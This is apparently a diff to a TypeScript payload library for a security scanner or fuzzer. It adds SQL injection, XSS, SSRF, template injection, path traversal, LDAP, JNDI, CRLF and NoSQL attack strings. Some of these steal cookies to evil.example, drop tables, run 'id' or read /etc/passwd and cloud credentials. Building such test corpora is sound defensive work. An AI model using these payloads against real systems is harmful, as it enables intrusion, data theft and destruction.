@@ -35,6 +35,16 @@ export const SQLI: readonly string[] = [
   "1;DECLARE @x CHAR(9);SET @x=0x303a303a35;WAITFOR DELAY @x--", "' AND 1 IN (SELECT @@version)--",
   '1 OR 2>1', "1' XOR 1=1 XOR '1", "' || 'a'='a", "1' AND 1=1 UNION ALL SELECT 1,NULL,'<x>',table_name FROM information_schema.tables WHERE 2>1--",
   "admin' AND '1'='1' /*", '1)) OR 1=1#', "' OR EXISTS(SELECT * FROM users WHERE username='admin')--",
+  "1'/**/OR/**/1=1#", "1' OR '1'='1'/*", "' OR 1 -- -",
+  "1' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055", '1 AnD 1=1', "' oR '1",
+  "') OR 1=1 LIMIT 1;--", "') UNION SELECT password FROM users WHERE username='admin'--", '1 UNI/**/ON SEL/**/ECT 1,2,3',
+  "1'+(SELECT 1 FROM (SELECT SLEEP(5))A)+'", "' UNION SELECT @@datadir--", '1 AND ORD(MID((SELECT IFNULL(CAST(username AS CHAR),0x20) FROM users ORDER BY id LIMIT 0,1),1,1))>64',
+  "' AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)--", "admin' or 1=1 or ''='", "' or 'a'='a' --",
+  "1' and '1'='2' union select 1,2 from dual where '1'='1", ";EXEC('SEL'+'ECT 1')", '1;DROP TABLE users',
+  "' ; DELETE FROM orders WHERE '1'='1", "1' || pg_sleep(10)--", "' AND 'a'=(SELECT 'a' FROM pg_user LIMIT 1)--",
+  '0x50 OR 1=1', "1' WAITFOR DELAY '00:00:10'--", '`) OR 1=1 -- ',
+  '" OR "1"="1" --', '1 or sleep(5)#', '" or sleep(5)="',
+  "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)#", '-1 UNION SELECT 1,2,LOAD_FILE(0x2f6574632f706173737764)',
 ];
 
 export const XSS: readonly string[] = [
@@ -67,6 +77,16 @@ export const XSS: readonly string[] = [
   '<svg onload=confirm`1`>', '<a href=javas&#99;ript:alert(1)>x</a>', '<iframe/src="data:text/html,<svg onload=alert(1)>">',
   '<object data=javascript:alert(1)>', '<x onclick=alert(1)>click me', '<img src=x onerror=location=`javascript:alert(1)`>',
   '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>', '<script>document.location="//evil.example/?"+document.cookie</script>',
+  '<svg/onload=alert`1`>', '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>', '<iframe onload=alert(1)>',
+  '<svg><script xlink:href=data:,alert(1)></script>', '<a href="javascript&colon;alert(1)">x</a>', "<img src=\"x\" onerror=\"top['al'+'ert'](1)\">",
+  '"><svg onload=alert(1)//', '"autofocus onfocus=alert(1)//', '<body/onload=alert(1)>',
+  "<script>eval(atob('YWxlcnQoMSk='))</script>", '<img src=x oNeRrOr=alert(1)>', "<svg onload=setTimeout('alert(1)')>",
+  "<img src=x onerror=import('//evil.example/x.js')>", "<script>window.location='http://evil.example/?c='+document.cookie</script>", '<div onpointerover=alert(1)>x</div>',
+  '<video src=x onloadstart=alert(1)>', '<input type=image src=x onerror=alert(1)>', '<object type="text/x-scriptlet" data="http://evil.example/x.sct"></object>',
+  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"></use></svg>', "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>", "<script>self['ale'+'rt'](1)</script>",
+  '<img src=x onerror=window.onerror=alert;throw 1>', '<a id=x tabindex=1 onfocusin=alert(1)></a>', '<svg><animatetransform onbegin=alert(1)>',
+  "'-alert(1)-'", '</script><img src=x onerror=alert(1)>', '<img src=x onerror=alert(document.domain)//',
+  '<ScRipT>prompt(1)</ScRipT>', '<iframe src="http://evil.example/phish" style="position:fixed;top:0;left:0;width:100%;height:100%">',
 ];
 
 export const SSRF: readonly string[] = [
@@ -82,6 +102,11 @@ export const SSRF: readonly string[] = [
   'http://kubernetes.default.svc/api/v1/namespaces', 'http://169.254.170.2/v2/credentials', 'https://127.0.0.1:6443/',
   'http://[0:0:0:0:0:0:0:1]:80/', 'http://2852039166/', 'http://0xa9fea9fe/', 'gopher://localhost:25/_HELO%20x',
   'http://localhost.localdomain/', 'http://metadata/computeMetadata/v1/instance/', 'http://127.0.0.1:2375/containers/json',
+  'http://0x7f.1/', 'http://127.000.000.001/', 'http://[::]:80/',
+  'http://0251.0376.0251.0376/', 'http://169.254.169.254.nip.io/', 'https://metadata.google.internal/computeMetadata/v1beta1/',
+  'http://localhost%00.evil.example/', 'http://127.0.0.1:6379/', 'http://spoofed.burpcollaborator.net',
+  'gopher://127.0.0.1:3306/_', 'http://[::ffff:127.0.0.1]/', 'http://%31%32%37%2e%30%2e%30%2e%31/',
+  'http://127.127.127.127/', 'http://0177.1/', 'http://customer1.app.localhost/',
 ];
 
 export const RFI: readonly string[] = [
@@ -105,6 +130,12 @@ export const SSTI: readonly string[] = [
   '{{4*4}}[[5*5]]', "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}", '{{ url_for.__globals__.os.environ }}',
   "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
   '${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve("/etc/passwd")}',
+  "{{ ''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read() }}", '{{config}}', '{{self}}',
+  "${7*'7'}", '{{"".__class__}}', "<%= File.open('/etc/passwd').read %>",
+  '#{7*7}', '${{7*7}}', '{{7*7}}${7*7}<%=7*7%>',
+  '{% debug %}', '{{ request.environ }}', "${__import__('os').popen('id').read()}",
+  '[#assign x="freemarker.template.utility.Execute"?new()]${x("id")}', '{{#each this}}{{@key}}{{/each}}', "${'a'.getClass().forName('java.lang.Runtime')}",
+  "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
 ];
 
 export const TRAVERSAL: readonly string[] = [
@@ -118,12 +149,19 @@ export const TRAVERSAL: readonly string[] = [
   'C:\\inetpub\\wwwroot\\web.config', '/./././././etc/passwd', '//etc//passwd', '../../../../../etc/hosts', '.../...//.../...//etc/passwd',
   '..%00/..%00/etc/passwd', 'php://filter/read=string.rot13/resource=config.php', '/var/www/html/wp-config.php', '....\\\\....\\\\windows\\\\win.ini',
   '../../../../../../../../../../boot.ini', '/home/user/.aws/credentials', 'data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==',
+  '..%2F..%2F..%2F..%2Fetc%2Fpasswd', '..././..././..././etc/passwd', '/..\\../..\\../etc/passwd',
+  '%252e%252e%252fetc%252fpasswd', '....\\/....\\/etc/passwd', '..%c1%9c..%c1%9cboot.ini',
+  '/%2e%2e/%2e%2e/%2e%2e/etc/passwd', '..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd', '\\\\..\\\\..\\\\..\\\\windows\\\\system.ini',
+  '/var/log/nginx/access.log', '/proc/version', '/etc/group',
+  'WEB-INF/classes/application.properties', '....//....//....//....//etc//passwd',
 ];
 
 export const LDAP: readonly string[] = [
   '*)(uid=*))(|(uid=*', '*)(&', 'admin)(&)', '*)(|(objectClass=*)', 'admin*)((|userPassword=*)', ')(cn=*))(|(cn=*', '*))%00',
   '(|(uid=*)(cn=*))', 'x*)(|(password=*)', 'admin)(!(&(1=0', '*)(userPassword=*)', '))(|(objectclass=*)', '*)(mail=*',
   'admin)(|(description=*', '*)(|(cn=admin)(cn=*))', '(&(objectClass=user)(|(cn=*)))',
+  '*)(objectClass=*', 'admin)(|(password=*)', '*)(|(&',
+  'pwd)(|(pwd=*', '*)(uid=*',
 ];
 
 export const JNDI: readonly string[] = [
@@ -134,6 +172,9 @@ export const JNDI: readonly string[] = [
   "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example}", '${env:AWS_SECRET_ACCESS_KEY}', '${sys:java.version}',
   '${jndi:ldap://${env:USER}.x.oast.example/a}', '${${::-j}ndi:rmi://x.example/a}', '${j${main:\\k5:-Nd}i:ldap://x.example}',
   '${jndi:http://x.example/a}', '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x.example/a}',
+  '${jndi:ldap://127.0.0.1:1389/Basic/Command/Base64/aWQ=}', '${${lower:jndi}:${lower:rmi}://x.example/a}', '${${::-j}ndi:${::-l}${::-d}${::-a}${::-p}://x.example/a}',
+  '$%7Bjndi:ldap://x.example/a%7D', '${jndi:ldap://x.example/a}${jndi:dns://x.example}', '${${lower:${lower:jndi}}:${lower:rmi}://x.example/a}',
+  '${jndi:ldap://x.example:1389/a?${env:PATH}}',
 ];
 
 export const CRLF: readonly string[] = [
@@ -141,6 +182,8 @@ export const CRLF: readonly string[] = [
   '\r\n\r\n<script>alert(1)</script>', '\nX-Injected: 1', '\u560d\u560aSet-Cookie: x=1', 'en\r\nAccess-Control-Allow-Origin: *',
   'x\r\nBcc: victim@example.com', '/\r\nX-Forwarded-Host: evil.example', 'a\rRefresh: 0; url=http://evil.example/',
   'test%0d%0aSet-Cookie:%20admin=true', '%E5%98%8A%E5%98%8DLocation:%20http://evil.example', 'x\r\nTransfer-Encoding: chunked',
+  '%0d%0aLocation:%20http://evil.example', '%0aSet-Cookie:crlf=injection', '\r\nX-XSS-Protection: 0\r\n\r\n<svg onload=alert(1)>',
+  '%23%0dSet-Cookie:x=1', '%3f%0d%0aLocation:%0d%0aContent-Type:text/html%0d%0aX-XSS-Protection%3a0%0d%0a%0d%0a%3Cscript%3Ealert%28document.domain%29%3C/script%3E', '/%0D%0ASet-Cookie:mycookie=myvalue',
 ];
 
 /** NoSQL: objects sent as JSON or as a bracketed query string, and strings for a $where / JS string context. */
@@ -158,6 +201,8 @@ export const NOSQL_STRINGS: readonly string[] = [
   "' || 1==1//", "'; return true; var x='", "'; sleep(5000); '", '"; while(true){}; "', "true, $where: '1 == 1'",
   "', $or: [ {}, { 'a':'a", '{"$gt": ""}', '{"$ne": null}', 'db.users.find()', "' && this.password.match(/^a/)//",
   "admin' || 'a'=='a", '[$ne]=1', "'; db.dropDatabase(); '", "1; return this.isAdmin == true", '{"$where": "sleep(100)"}',
+  '{"$gt": ""}', "true, $where: '1 == 1'", "'; return '' == '",
+  '{"$regex": "^a"}', '[$regex]=.*', "'||'a'=='a",
 ];
 
 /** XXE: whole documents. */
